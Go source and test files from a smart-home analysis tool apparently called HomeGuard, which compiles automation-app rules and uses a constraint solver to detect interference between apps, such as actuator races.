		p.AddEnumVar(name, vals)
		return
	}
	if v.Type == rule.TypeBool {
		p.AddBoolVar(name)
		return
	}
	p.AddIntVar(name, solver.DefaultIntMin, solver.DefaultIntMax)
}

func containsStr(xs []string, s string) bool {
	for _, x := range xs {
		if x == s {
			return true
		}
	}
	return false
}

// envRange gives physical bounds for environment features.
func envRange(feature string) (int64, int64) {
	switch feature {
	case "temperature":
		return -40, 150
	case "illuminance":
		return 0, 100000
	case "humidity":
		return 0, 100
	case "power":
		return 0, 100000
	case "timeOfDay":
		return 0, 1439
	case "sunrise", "sunset":
		return 0, 1439
	case "now":
		return 0, 1 << 40
	}
	return solver.DefaultIntMin, solver.DefaultIntMax
}

// ---------- action effects ----------

// deviceEffect is one attribute change produced by an action, in canonical
// variables.
type deviceEffect struct {
	varName string    // canonical "<deviceKey>.<attr>"
	value   rule.Term // new value (constant or parameter term)
	attr    string
}

// actionEffects computes the device-state effects of a rule's action.
func (d *Detector) actionEffects(app *InstalledApp, r *rule.Rule) []deviceEffect {
	act := r.Action
	if act.Command == "setLocationMode" {
		var v rule.Term = rule.StrVal("?")
		if len(act.Params) > 0 {
			v = d.canonTerm(app, act.Params[0])
		}
		return []deviceEffect{{varName: "location.mode", value: v, attr: "mode"}}
	}
	in := app.Info.Input(act.Subject)
	if in == nil || !in.IsDevice() {
		return nil
	}
	ref := commandRef(act.Capability, act.Command)
	if ref == nil {
		return nil
	}
	key := d.deviceKey(app, act.Subject)
	var out []deviceEffect
	for _, e := range ref.Command.Effects {
		de := deviceEffect{varName: key + "." + e.Attribute, attr: e.Attribute}
		if e.FromParam >= 0 && e.FromParam < len(act.Params) {
			de.value = d.canonTerm(app, act.Params[e.FromParam])
		} else if e.FromParam < 0 {
			de.value = rule.StrVal(e.Value)
			if a := ref.Capability.Attr(e.Attribute); a != nil && a.Kind == capability.Number {
				de.value = rule.StrVal(e.Value) // numeric constant effects unused in registry
			}
		} else {
			continue
		}
		out = append(out, de)
	}
	return out
}

func commandRef(capName, cmd string) *capability.CommandRef {
	if c, ok := capability.Get(capName); ok {
		if k := c.Cmd(cmd); k != nil {
			return &capability.CommandRef{Capability: c, Command: k}
		}
	}
	refs := capability.CommandsNamed(cmd)
	if len(refs) > 0 {
		return &refs[0]
	}
	return nil
}

// envEffects computes the environment effects of a rule's action based on
// the device's physical type.
func (d *Detector) envEffects(app *InstalledApp, r *rule.Rule) envmodel.Effects {
	in := app.Info.Input(r.Action.Subject)
	if in == nil || !in.IsDevice() {
		return nil
	}
	dt := d.deviceType(app, in)
	return envmodel.EffectsOf(dt, r.Action.Command)
}

// effectConstraint renders a device effect as an equality formula.
func (e deviceEffect) constraint() rule.Constraint {
	v := rule.Var{Name: e.varName, Kind: rule.VarDeviceAttr, Type: rule.TypeString}
	if _, isInt := e.value.(rule.IntVal); isInt {
		v.Type = rule.TypeInt
	}
	if vv, isVar := e.value.(rule.Var); isVar {
		v.Type = vv.Type
	}
	return rule.Cmp{Op: rule.OpEq, L: v, R: e.value}
}
