package detect

import (
	"errors"
	"testing"

	"homeguard/internal/solver"
	"homeguard/internal/symexec"
)

// TestCheckPairSurfacesSearchLimit: when the solver budget is exhausted
// mid pair-check, the verdict must degrade loudly — CheckPair returns an
// error wrapping solver.ErrSearchLimit, the conservative threat is still
// reported (never a silent "no threat"), and the stats record the
// degradation.
func TestCheckPairSurfacesSearchLimit(t *testing.T) {
	extract := func(src string) *InstalledApp {
		res, err := symexec.Extract(src, "")
		if err != nil {
			t.Fatalf("extract: %v", err)
		}
		return NewInstalledApp(res, sharedLightConfig())
	}
	on := extract(lockSrc)      // light1.on() at app touch
	off := extract(autoLockSrc) // light1.off() at app touch

	// A node cap of 1 exhausts the budget on the very first search node of
	// the AR overlap query.
	d := New(Options{SolverNodeCap: 1})
	threats, err := d.CheckPair(on, on.Rules.Rules[0], off, off.Rules.Rules[0])
	if !errors.Is(err, solver.ErrSearchLimit) {
		t.Fatalf("CheckPair error = %v, want solver.ErrSearchLimit", err)
	}
	if hasKind(threats, ActuatorRace) == nil {
		t.Fatalf("budget exhaustion must keep the conservative AR verdict, got %v", threats)
	}
	if d.Stats().SearchLimitHits == 0 {
		t.Fatal("SearchLimitHits not recorded")
	}

	// DetectPair keeps the legacy silent-conservative behavior, and a
	// detector with the default budget reports the same pair cleanly.
	d2 := New(Options{})
	threats2, err := d2.CheckPair(on, on.Rules.Rules[0], off, off.Rules.Rules[0])
	if err != nil {
		t.Fatalf("default budget CheckPair: %v", err)
	}
	if hasKind(threats2, ActuatorRace) == nil {
		t.Fatalf("AR not found under default budget: %v", threats2)
	}
	if d2.Stats().SearchLimitHits != 0 {
		t.Fatal("unexpected SearchLimitHits under default budget")
	}

	// Degradation sticks to the cached verdict: a repeat CheckPair served
	// from the satCache consumed the same budget-limited answer and must
	// keep reporting the degradation, not launder it into a clean result.
	d3 := New(Options{SolverNodeCap: 1})
	if _, err := d3.CheckPair(on, on.Rules.Rules[0], off, off.Rules.Rules[0]); !errors.Is(err, solver.ErrSearchLimit) {
		t.Fatalf("want ErrSearchLimit, got %v", err)
	}
	if _, err := d3.CheckPair(on, on.Rules.Rules[0], off, off.Rules.Rules[0]); !errors.Is(err, solver.ErrSearchLimit) {
		t.Fatalf("cached budget-degraded verdict must re-surface ErrSearchLimit, got %v", err)
	}
	if d3.Stats().SolverCacheHits == 0 {
		t.Fatal("repeat call should have been served from the satCache")
	}
}
