package detect

import (
	"sort"
	"strings"

	"homeguard/internal/envmodel"
	"homeguard/internal/rule"
	"homeguard/internal/solver"
)

// This file implements the compile-once layer of the detector: every
// InstalledApp is compiled exactly once per Install/Reconfigure into a
// CompiledRuleSet — canonical formulas, solver variable declarations,
// action effects, trigger metadata, the footprint and the verdict
// signature — so pair checks consume precompiled artifacts instead of
// re-running canonVar/canonFormula/declareVars per pair. Before this
// layer, canonicalization ran O(rules × pairs) times: each DetectPair
// re-renamed and re-substituted both rules' formulas from scratch.
//
// Compilation is a pure function of the app's exported fields (Info,
// Rules, Config) plus the immutable capability/envmodel registries — it
// never reads detector state — so a compiled set computed by one detector
// is valid in any other, the same contract fp and sig already obeyed.
// What stays per-detector is variable *declaration* (solver domains):
// enum-input options and the home's mode universe live on the Detector,
// so compiled artifacts carry declaration plans (varDecl) rather than
// materialized domains.

// varDecl is the declaration plan for one canonical variable of a
// compiled formula: its name, its kind/type metadata, and the string
// values the formula compares it against (sorted), which widen enum
// domains at declaration time.
type varDecl struct {
	name     string
	v        rule.Var
	observed []string
}

// envProp pairs a condition variable with the environment property its
// attribute suffix senses.
type envProp struct {
	varName string
	prop    envmodel.Property
}

// compiledRule is the per-rule compilation artifact.
type compiledRule struct {
	r   *rule.Rule
	qid string // r.QualifiedID(), precomputed for cache keys

	// Canonical formulas (variables renamed to home-global form, config
	// values substituted) and their declaration plans.
	situation rule.Constraint // trigger-constraint ∧ condition
	condition rule.Constraint // condition only
	situDecls []varDecl
	condDecls []varDecl

	// Trigger metadata for Covert-Triggering channels.
	trigSkip       bool // "app"/"time" subjects cannot be fired by actions
	trigAnyChange  bool
	trigVar        string // canonical variable the trigger subscribes to
	trigConstraint rule.Constraint
	trigProp       envmodel.Property
	trigPropOK     bool
	trigBoundDir   int // one-sided bound direction of the raw trigger constraint

	// Condition metadata for Enabling/Disabling-Condition detection.
	condAlways   bool
	condVarSet   map[string]rule.Var
	condEnvProps []envProp // sorted by variable name

	// Action effects: device-state writes (with their equality constraints
	// pre-rendered) and environment drifts.
	effects    []deviceEffect
	effectCs   []rule.Constraint
	envEffects envmodel.Effects

	// Action device identity for the GC same-actuator exclusion, and the
	// canonical first action parameter for setpoint-style bounds.
	actionIsInput bool
	actionDevKey  string
	setpointTerm  rule.Term
}

// CompiledRuleSet is the per-app artifact compiled once at
// Install/Reconfigure and consumed by every pair check: compiled rules,
// the app's canonical read/write footprint, and (when a verdict cache is
// configured) the verdict signature that PairKey hashing reuses instead
// of re-serializing the rule set.
type CompiledRuleSet struct {
	rules []compiledRule
	index map[*rule.Rule]int
	fp    *rule.Footprint
	sig   []byte
}

// Compiled returns the app's compiled rule set, or nil before the first
// Install/Reconfigure/CheckPair involving the app.
func (app *InstalledApp) Compiled() *CompiledRuleSet { return app.comp }

// Footprint returns the app's canonical read/write footprint, or nil
// before the app was compiled (Precompile/Install/Reconfigure). The audit
// engine feeds it to a FootprintIndex to generate candidate pairs.
func (app *InstalledApp) Footprint() *rule.Footprint { return app.fp }

// ensureCompiled compiles the app on first use by this or any detector
// (DetectPair may be called on apps that were never installed; they get
// the same compilation Install would produce).
func (d *Detector) ensureCompiled(app *InstalledApp) *CompiledRuleSet {
	if app.comp == nil {
		d.prepare(app)
	}
	return app.comp
}

// compiledFor returns the compiled form of one rule, compiling a one-off
// artifact for rules that are not part of the app's rule set (hand-built
// rules in tests).
func (d *Detector) compiledFor(app *InstalledApp, r *rule.Rule) *compiledRule {
	comp := d.ensureCompiled(app)
	if i, ok := comp.index[r]; ok {
		return &comp.rules[i]
	}
	cr := d.compileRule(app, r, d.configBindings(app))
	return &cr
}

// compile builds the app's CompiledRuleSet.
func (d *Detector) compile(app *InstalledApp) *CompiledRuleSet {
	rules := app.Rules.Rules
	cs := &CompiledRuleSet{
		rules: make([]compiledRule, 0, len(rules)),
		index: make(map[*rule.Rule]int, len(rules)),
	}
	bind := d.configBindings(app)
	for i, r := range rules {
		cs.rules = append(cs.rules, d.compileRule(app, r, bind))
		cs.index[r] = i
	}
	cs.fp = footprintFromCompiled(cs)
	return cs
}

// compileRule compiles one rule against the app's config bindings.
func (d *Detector) compileRule(app *InstalledApp, r *rule.Rule, bind map[string]rule.Term) compiledRule {
	c := compiledRule{r: r, qid: r.QualifiedID()}

	c.situation = d.canonFormulaBind(app, r.TriggerConditionFormula(), bind)
	c.condition = d.canonFormulaBind(app, r.Condition.Formula(), bind)
	c.situDecls = compileDecls(c.situation)
	c.condDecls = compileDecls(c.condition)

	t := r.Trigger
	c.trigSkip = t.Subject == "app" || t.Subject == "time"
	c.trigAnyChange = t.AnyChange()
	c.trigVar = d.canonTriggerVar(app, r)
	if !c.trigAnyChange {
		c.trigConstraint = d.canonFormulaBind(app, t.Constraint, bind)
		// The bound direction is read off the raw constraint: config
		// substitution may replace a user-input threshold with a constant,
		// which must not change how the trigger's one-sidedness is judged.
		c.trigBoundDir = boundDirection(t.Constraint)
	}
	c.trigProp, c.trigPropOK = envmodel.AttributeProperty(t.Attribute)

	c.condAlways = r.Condition.Always()
	c.condVarSet = rule.VarSet(c.condition)
	if len(c.condVarSet) > 0 {
		names := make([]string, 0, len(c.condVarSet))
		for name := range c.condVarSet {
			names = append(names, name)
		}
		sort.Strings(names)
		for _, name := range names {
			attr := name
			if dot := strings.LastIndexByte(name, '.'); dot >= 0 {
				attr = name[dot+1:]
			}
			if p, ok := envmodel.AttributeProperty(attr); ok {
				c.condEnvProps = append(c.condEnvProps, envProp{varName: name, prop: p})
			}
		}
	}

	c.effects = d.actionEffectsBind(app, r, bind)
	if len(c.effects) > 0 {
		c.effectCs = make([]rule.Constraint, len(c.effects))
		for i := range c.effects {
			c.effectCs[i] = c.effects[i].constraint()
		}
	}
	c.envEffects = d.envEffects(app, r)

	if in := app.Info.Input(r.Action.Subject); in != nil {
		c.actionIsInput = true
		c.actionDevKey = d.deviceKey(app, r.Action.Subject)
	}
	if len(r.Action.Params) > 0 {
		c.setpointTerm = d.canonTermBind(app, r.Action.Params[0], bind)
	}
	return c
}

// footprintFromCompiled assembles the app footprint from compiled rules;
// see footprintOf's doc comment in footprint.go for what reads and writes
// cover. The compiled situation declarations carry exactly the variable
// names rule.VarSet reported, so the footprint is unchanged — it is just
// no longer a second canonicalization pass.
func footprintFromCompiled(cs *CompiledRuleSet) *rule.Footprint {
	fp := rule.NewFootprint()
	for i := range cs.rules {
		c := &cs.rules[i]
		for _, dec := range c.situDecls {
			addReadName(fp, dec.name)
		}
		if !c.trigSkip {
			addReadName(fp, c.trigVar)
			if c.trigPropOK {
				fp.AddRead(propKey(c.trigProp))
			}
		}
		for _, eff := range c.effects {
			fp.AddWrite(eff.varName)
		}
		for p, sign := range c.envEffects {
			if sign != envmodel.None {
				fp.AddWrite(propKey(p))
			}
		}
	}
	return fp
}

// compileDecls computes the declaration plan of a formula: every
// referenced variable with the string values it is compared against.
// Names and observed values are sorted so declaration is deterministic
// (the map-driven predecessor declared in map-iteration order).
func compileDecls(f rule.Constraint) []varDecl {
	if f == nil {
		return nil
	}
	vars := rule.VarSet(f)
	if len(vars) == 0 {
		return nil
	}
	observed := map[string]map[string]bool{}
	collectObserved(f, observed)
	names := make([]string, 0, len(vars))
	for name := range vars {
		names = append(names, name)
	}
	sort.Strings(names)
	decls := make([]varDecl, 0, len(names))
	for _, name := range names {
		var obs []string
		if m := observed[name]; len(m) > 0 {
			obs = make([]string, 0, len(m))
			for o := range m {
				obs = append(obs, o)
			}
			sort.Strings(obs)
		}
		decls = append(decls, varDecl{name: name, v: vars[name], observed: obs})
	}
	return decls
}

// collectObserved records string values each variable is compared against.
func collectObserved(c rule.Constraint, observed map[string]map[string]bool) {
	switch x := c.(type) {
	case rule.Cmp:
		if v, ok := x.L.(rule.Var); ok {
			if s, ok := x.R.(rule.StrVal); ok {
				addObserved(observed, v.Name, string(s))
			}
		}
		if v, ok := x.R.(rule.Var); ok {
			if s, ok := x.L.(rule.StrVal); ok {
				addObserved(observed, v.Name, string(s))
			}
		}
	case rule.And:
		for _, sub := range x.Cs {
			collectObserved(sub, observed)
		}
	case rule.Or:
		for _, sub := range x.Cs {
			collectObserved(sub, observed)
		}
	case rule.Not:
		collectObserved(x.C, observed)
	}
}

// declareGroups declares the variables of up to two precompiled
// declaration plans into the problem, unioning observed values for
// variables both plans reference (both formulas' comparisons widen the
// shared variable's enum domain, exactly as the one-pass walk did).
// Groups are sorted by name, so this is a linear merge.
func (d *Detector) declareGroups(p *solver.Problem, a, b []varDecl) {
	i, j := 0, 0
	for i < len(a) && j < len(b) {
		switch {
		case a[i].name < b[j].name:
			d.declareVar(p, a[i].name, a[i].v, a[i].observed)
			i++
		case a[i].name > b[j].name:
			d.declareVar(p, b[j].name, b[j].v, b[j].observed)
			j++
		default:
			d.declareVar(p, a[i].name, a[i].v, unionSorted(a[i].observed, b[j].observed))
			i++
			j++
		}
	}
	for ; i < len(a); i++ {
		d.declareVar(p, a[i].name, a[i].v, a[i].observed)
	}
	for ; j < len(b); j++ {
		d.declareVar(p, b[j].name, b[j].v, b[j].observed)
	}
}

// unionSorted merges two sorted string slices without duplicates.
func unionSorted(a, b []string) []string {
	if len(b) == 0 {
		return a
	}
	if len(a) == 0 {
		return b
	}
	out := make([]string, 0, len(a)+len(b))
	i, j := 0, 0
	for i < len(a) && j < len(b) {
		switch {
		case a[i] < b[j]:
			out = append(out, a[i])
			i++
		case a[i] > b[j]:
			out = append(out, b[j])
			j++
		default:
			out = append(out, a[i])
			i++
			j++
		}
	}
	out = append(out, a[i:]...)
	out = append(out, b[j:]...)
	return out
}
