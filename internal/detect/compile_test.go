package detect

import (
	"testing"

	"homeguard/internal/symexec"
)

// TestCompileSharedAcrossDetectors: two homes installing the same
// extraction result under content-equal configurations share one
// CompiledRuleSet (the fleet-wide compile cache), while a different
// configuration compiles separately — and a content-equal rule set from a
// *separate* extraction never shares (threats must report the caller's
// own *rule.Rule pointers).
func TestCompileSharedAcrossDetectors(t *testing.T) {
	res, err := symexec.Extract(lockSrc, "")
	if err != nil {
		t.Fatalf("extract: %v", err)
	}

	d1, d2 := New(Options{}), New(Options{})
	a1 := NewInstalledApp(res, sharedLightConfig())
	a2 := NewInstalledApp(res, sharedLightConfig())
	d1.Install(a1)
	d2.Install(a2)
	if a1.Compiled() == nil || a1.Compiled() != a2.Compiled() {
		t.Fatal("same rule set + equal config must share one compilation")
	}

	// Different binding → different signature → separate compilation.
	cfg := NewConfig()
	cfg.Devices["light1"] = "dev-other"
	a3 := NewInstalledApp(res, cfg)
	New(Options{}).Install(a3)
	if a3.Compiled() == a1.Compiled() {
		t.Fatal("different config must not share a compilation")
	}

	// Content-identical rules from a second extraction: distinct pointers,
	// distinct compilation, and threats keep referencing the installing
	// app's own rules.
	res2, err := symexec.Extract(lockSrc, "")
	if err != nil {
		t.Fatalf("extract: %v", err)
	}
	a4 := NewInstalledApp(res2, sharedLightConfig())
	New(Options{}).Install(a4)
	if a4.Compiled() == a1.Compiled() {
		t.Fatal("separate extractions must compile separately (rule identity)")
	}

	// Reconfigure recompiles: the app must see a fresh compiled set with
	// the new bindings.
	d5 := New(Options{})
	a5 := NewInstalledApp(res, sharedLightConfig())
	d5.Install(a5)
	before := a5.Compiled()
	newCfg := NewConfig()
	newCfg.Devices["light1"] = "dev-rewired"
	if _, err := d5.Reconfigure(a5.Info.Name, newCfg); err != nil {
		t.Fatalf("Reconfigure: %v", err)
	}
	after := a5.Compiled()
	if after == before {
		t.Fatal("Reconfigure must recompile the app")
	}
	if len(after.rules) != len(before.rules) {
		t.Fatalf("recompile changed rule count: %d vs %d", len(after.rules), len(before.rules))
	}
	// The recompiled footprint reflects the new device binding.
	if _, ok := after.fp.Writes["dev-rewired.switch"]; !ok {
		t.Fatalf("recompiled footprint misses the new binding: %s", after.fp)
	}
}
