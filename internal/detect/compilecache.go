package detect

import (
	"crypto/sha256"
	"sync"

	"homeguard/internal/rule"
)

// The compile cache shares CompiledRuleSets across detectors, the way the
// extraction cache shares symbolic execution and the pair-verdict cache
// shares solving: a CompiledRuleSet is a pure function of the app's rule
// set, input declarations and installation configuration, so every home
// that installs the same extraction result under a content-equal config
// can reuse one compilation (canonical formulas, declaration plans,
// effects, footprint, signature).
//
// The key pairs the *RuleSet pointer with the app signature. The pointer
// matters: compiled rules hold *rule.Rule references into their source
// rule set, and threats report those pointers — two content-identical
// rule sets from separate extractions must not swap rule identities, so
// they compile separately. Fleet-scale sharing still works because the
// extraction cache already dedups sources to one *RuleSet fleet-wide.
// The signature covers everything else compilation reads (app name,
// inputs, config bindings — see appSignature).
//
// Entries strong-reference their rule sets, so the map is bounded like
// ruleSetSigs: on overflow arbitrary entries are dropped and recompiled
// on next use.
const compileCacheLimit = 1 << 14

type compileKey struct {
	rules *rule.RuleSet
	sig   [sha256.Size]byte
}

var compileCache = struct {
	sync.Mutex
	m map[compileKey]*CompiledRuleSet
}{m: map[compileKey]*CompiledRuleSet{}}

func compileCacheGet(k compileKey) *CompiledRuleSet {
	compileCache.Lock()
	cs := compileCache.m[k]
	compileCache.Unlock()
	return cs
}

func compileCachePut(k compileKey, cs *CompiledRuleSet) {
	compileCache.Lock()
	for old := range compileCache.m {
		if len(compileCache.m) < compileCacheLimit {
			break
		}
		delete(compileCache.m, old)
	}
	compileCache.m[k] = cs
	compileCache.Unlock()
}
