// JSON codec for install-time configurations. Config.Values holds
// rule.Term behind an interface, so plain encoding/json cannot round-trip
// it; the WAL and the fleet snapshot persist configs through this tagged
// form instead. A nil *Config round-trips as JSON null (the fleet treats
// nil and empty configs differently on the wire: nil selects type-level
// device identity).

package detect

import (
	"encoding/json"
	"fmt"

	"homeguard/internal/envmodel"
	"homeguard/internal/rule"
)

type configJSON struct {
	Devices     map[string]string          `json:"devices,omitempty"`
	Values      map[string]json.RawMessage `json:"values,omitempty"`
	ValueLists  map[string][]string        `json:"valueLists,omitempty"`
	DeviceTypes map[string]string          `json:"deviceTypes,omitempty"`
}

// MarshalConfig serializes a configuration, tagging each Term value so it
// survives the interface boundary. A nil config marshals to null.
func MarshalConfig(c *Config) ([]byte, error) {
	if c == nil {
		return []byte("null"), nil
	}
	cj := configJSON{Devices: c.Devices, ValueLists: c.ValueLists}
	if len(c.Values) > 0 {
		cj.Values = make(map[string]json.RawMessage, len(c.Values))
		for k, t := range c.Values {
			b, err := rule.MarshalTerm(t)
			if err != nil {
				return nil, fmt.Errorf("detect: config value %q: %w", k, err)
			}
			cj.Values[k] = b
		}
	}
	if len(c.DeviceTypes) > 0 {
		cj.DeviceTypes = make(map[string]string, len(c.DeviceTypes))
		for k, dt := range c.DeviceTypes {
			cj.DeviceTypes[k] = string(dt)
		}
	}
	return json.Marshal(cj)
}

// UnmarshalConfig reverses MarshalConfig; JSON null yields nil.
func UnmarshalConfig(b []byte) (*Config, error) {
	if len(b) == 0 || string(b) == "null" {
		return nil, nil
	}
	var cj configJSON
	if err := json.Unmarshal(b, &cj); err != nil {
		return nil, fmt.Errorf("detect: config: %w", err)
	}
	c := NewConfig()
	if cj.Devices != nil {
		c.Devices = cj.Devices
	}
	if cj.ValueLists != nil {
		c.ValueLists = cj.ValueLists
	}
	for k, raw := range cj.Values {
		t, err := rule.UnmarshalTerm(raw)
		if err != nil {
			return nil, fmt.Errorf("detect: config value %q: %w", k, err)
		}
		c.Values[k] = t
	}
	for k, s := range cj.DeviceTypes {
		c.DeviceTypes[k] = envmodel.DeviceType(s)
	}
	return c, nil
}
