package detect

import (
	"errors"
	"fmt"
	"sort"
	"strings"
	"time"

	"homeguard/internal/envmodel"
	"homeguard/internal/obs"
	"homeguard/internal/rule"
	"homeguard/internal/solver"
)

// ErrAppNotInstalled reports a Reconfigure of an app name the detector has
// never installed, matchable with errors.Is (the fleet and the daemon map
// it to a not-found response).
var ErrAppNotInstalled = errors.New("detect: app not installed")

// Detector holds the home's installed apps and detects CAI threats as new
// apps arrive (the online part of HomeGuard).
//
// Concurrency contract: a Detector is NOT safe for concurrent use. Every
// exported method — Install, Reconfigure, Accept, FindChains, DetectPair,
// CheckPair, Stats, Apps — mutates or reads satCache, stats, curKind,
// inputOptions, apps or accepted without internal locking; the caller must
// serialize all calls on one Detector instance. internal/fleet does
// exactly that: it wraps each home's Detector behind one per-home mutex
// held for the full duration of any call, so those fields are guarded by
// the fleet's per-home lock boundary while distinct homes run in parallel.
// The Detector only ever READS the *rule.RuleSet and AppInfo inside an
// InstalledApp, so extraction results may be shared across detectors
// (the extractcache relies on this; see symexec.Result). The compiled
// rule set a detector attaches to an InstalledApp is a pure function of
// the app's exported fields (see compile.go), so sharing an InstalledApp
// across detectors is still sound — but the attach itself is an
// unsynchronized write, so one instance must not be compiled by different
// detectors concurrently (build a fresh InstalledApp per home, as the
// fleet does).
type Detector struct {
	apps  []*InstalledApp
	modes []string
	// modesSig is the length-prefixed mode list rendering hashed into every
	// PairKey, precomputed once (the modes never change after New).
	modesSig []byte
	opts     Options
	stats    Stats
	// curKind attributes solver time to the threat kind being detected
	// (Fig. 9 instrumentation). Guarded by the caller's serialization
	// (the fleet's per-home lock).
	curKind Kind

	// satCache memoises overlapping-condition solving results so CT/SD/LT
	// reuse the AR merge and DC reuses EC (Fig. 9 green arrows). Guarded
	// by the caller's serialization (the fleet's per-home lock).
	satCache map[string]satResult
	// keysByApp indexes satCache keys by participant app so Reconfigure
	// evicts exactly the entries a config change invalidates in
	// O(entries involving the app) instead of scanning the whole cache —
	// in a populated home the full scan dominated the steady-state
	// reconfigure cost. Sets mirror satCache exactly: every cached key is
	// in its (up to) two participants' sets and is removed from both on
	// eviction, so the index never holds stale keys. Guarded like satCache.
	keysByApp map[string]map[string]struct{}

	// inputOptions maps canonical input-variable names ("app!input") to
	// the enum options declared in the app's preferences, giving the
	// solver accurate domains for unbound enum inputs.
	inputOptions map[string][]string

	// accepted holds user-accepted interfering pairs for chained analysis.
	accepted []Threat

	// limitErr records a solver budget exhaustion during the current
	// CheckPair call (see CheckPair); conservative detection continues, but
	// error-aware callers get it surfaced instead of a silent verdict.
	limitErr error

	// idx is the inverted footprint-channel index over the installed apps
	// (slots aligned with d.apps). Install and Reconfigure query it for
	// candidate counterparts instead of enumerating every installed app,
	// so candidate generation scales with channel overlap, not home size.
	// nil when DisablePruning is set (the ablation runs the full scan).
	idx *FootprintIndex
	// candBuf is the reusable candidate-slot buffer for index queries.
	candBuf []int32
	// totalRules is the rule count summed over installed apps, kept so the
	// index path can charge skipped (never-generated) pairs to the prune
	// counters in O(candidates) instead of walking every installed app.
	totalRules int

	// span, when non-nil, is the parent under which Install/Reconfigure
	// record their stage spans (compile, candidates, verdict, solve). Set
	// by the caller around one operation (SetSpan) under the same
	// serialization every other detector field relies on; nil — the
	// default — costs only nil checks on the instrumented paths, never in
	// the per-rule-pair core (detectPair is not instrumented, keeping
	// DetectPair allocation-free).
	span *obs.Span
}

type satResult struct {
	sat     bool
	witness solver.Model
	// apps are the (up to) two app names whose rules produced the cached
	// formulas, recorded so Reconfigure can evict exactly the entries a
	// config change invalidates.
	apps [2]string
	// limited marks a verdict degraded by solver budget exhaustion
	// (conservatively satisfiable). Cache hits re-raise the degradation so
	// CheckPair reports it on every call that consumed the entry, not just
	// the one that solved it.
	limited bool
}

// New returns a detector for one smart home.
func New(opts Options) *Detector {
	modes := opts.Modes
	if len(modes) == 0 {
		modes = []string{"Home", "Away", "Night"}
	}
	d := &Detector{
		modes:        modes,
		modesSig:     modesSignature(modes),
		opts:         opts,
		stats:        newStats(),
		satCache:     map[string]satResult{},
		keysByApp:    map[string]map[string]struct{}{},
		inputOptions: map[string][]string{},
	}
	if !opts.DisablePruning {
		d.idx = NewFootprintIndex()
	}
	return d
}

// SetSpan sets (or, with nil, clears) the parent span under which the
// next Install/Reconfigure records stage timings. The caller must hold
// whatever serializes the detector (the fleet's per-home lock) and clear
// the span when the operation ends — the detector never outlives one
// operation's span.
func (d *Detector) SetSpan(sp *obs.Span) { d.span = sp }

// Stats returns detector work counters.
func (d *Detector) Stats() Stats { return d.stats }

// Apps returns the installed apps in installation order.
func (d *Detector) Apps() []*InstalledApp { return d.apps }

// Install detects CAI threats between the new app and every already
// installed app (and within the new app itself), then records the app as
// installed. This mirrors the one-time decision point at app installation.
//
// Counterpart candidates come from the inverted footprint-channel index
// (see FootprintIndex): only apps sharing an interference channel with
// the new app are paired; the rest are skipped without ever being
// enumerated (counted in Stats.PairsSkippedByIndex as well as
// Stats.PairsPruned, since the index skips exactly the pairs the scan
// path's footprint prune would have rejected one by one). With
// DisablePruning the full scan runs instead.
func (d *Detector) Install(app *InstalledApp) []Threat {
	d.noteInputOptions(app)
	// Compile the app once per install: canonical formulas, declaration
	// plans, effects, footprint and verdict signature (see compile.go).
	csp := d.span.Child("compile")
	d.prepare(app)
	csp.End()
	var threats []Threat
	// Intra-app pairs (rules within one app can interfere too).
	threats = append(threats, d.appPairThreats(app, app)...)
	if d.idx != nil {
		// Candidate slots come back sorted, i.e. in installation order, so
		// pairing them directly reproduces the scan path's threat order.
		// The skipped remainder is charged to the prune counters from the
		// running rule-count total — no per-app walk.
		gsp := d.span.Child("candidates")
		d.candBuf = d.idx.AppendCandidates(app.fp, d.candBuf[:0])
		gsp.SetInt("candidates", int64(len(d.candBuf)))
		gsp.End()
		d.stats.PairsIndexed += len(d.candBuf)
		candRules := 0
		for _, s := range d.candBuf {
			old := d.apps[s]
			candRules += len(old.Rules.Rules)
			threats = append(threats, d.appPairVerdict(old, app)...)
		}
		n := (d.totalRules - candRules) * len(app.Rules.Rules)
		d.stats.PairsPruned += n
		d.stats.PairsSkippedByIndex += n
		d.idx.Add(app.fp) // slot == len(d.apps)
	} else {
		for _, old := range d.apps {
			threats = append(threats, d.appPairThreats(old, app)...)
		}
	}
	d.apps = append(d.apps, app)
	d.totalRules += len(app.Rules.Rules)
	return threats
}

// noteInputOptions records an app's declared enum-input options for
// solver domains (keyed by the app-qualified canonical input name, so
// apps never interfere with each other's domains).
func (d *Detector) noteInputOptions(app *InstalledApp) {
	for i := range app.Info.Inputs {
		in := &app.Info.Inputs[i]
		if len(in.Options) > 0 {
			d.inputOptions[rule.InternBanged(app.Info.Name, in.Name)] = in.Options
		}
	}
}

// Precompile attaches the app's compiled rule set without installing it.
// Compilation is a pure function of the app's exported fields (see
// compile.go), but the attach itself is an unsynchronized write — a
// parallel audit engine precompiles every app once, single-threaded,
// before sharing the InstalledApps read-only across worker detectors.
func (d *Detector) Precompile(app *InstalledApp) { d.ensureCompiled(app) }

// DetectAppPair runs the full pair detection between two apps — footprint
// prune, optional shared verdict cache, all seven per-rule-pair checks —
// without recording either app as installed. It reproduces exactly what
// Install computes for the (appA, appB) pair: the enum-input options of
// both apps are noted first, as Install would have by the time this pair
// ran, and per-pair solving state (satCache keys are rule-pair-scoped)
// never crosses pairs, so a pair's threats are identical whether computed
// by a serial install sequence or an independent detector. appA must be
// the earlier-installed side (intra-app pairs pass the same app twice).
func (d *Detector) DetectAppPair(appA, appB *InstalledApp) []Threat {
	d.noteInputOptions(appA)
	if appB != appA {
		d.noteInputOptions(appB)
	}
	return d.appPairThreats(appA, appB)
}

// DetectAppPairCandidate is DetectAppPair for pairs already known to
// share a footprint channel (index-generated candidates, or intra-app
// pairs): it skips the per-pair footprint prune walk that DetectAppPair
// would re-run, which is the point of generating candidates from postings
// in the first place.
func (d *Detector) DetectAppPairCandidate(appA, appB *InstalledApp) []Threat {
	d.noteInputOptions(appA)
	if appB != appA {
		d.noteInputOptions(appB)
	}
	return d.appPairVerdict(appA, appB)
}

// Merge adds other's counters into s, for engines that aggregate several
// worker detectors' stats into one audit-wide view.
func (s *Stats) Merge(other Stats) {
	s.PairsChecked += other.PairsChecked
	s.SolverCalls += other.SolverCalls
	s.SolverCacheHits += other.SolverCacheHits
	s.SearchLimitHits += other.SearchLimitHits
	s.PairsPruned += other.PairsPruned
	s.PairsIndexed += other.PairsIndexed
	s.PairsSkippedByIndex += other.PairsSkippedByIndex
	s.PairVerdictHits += other.PairVerdictHits
	s.PairVerdictMisses += other.PairVerdictMisses
	for k, v := range other.Candidates {
		s.Candidates[k] += v
	}
	for k, v := range other.Found {
		s.Found[k] += v
	}
	for k, v := range other.FilterNS {
		s.FilterNS[k] += v
	}
	for k, v := range other.SolveNS {
		s.SolveNS[k] += v
	}
}

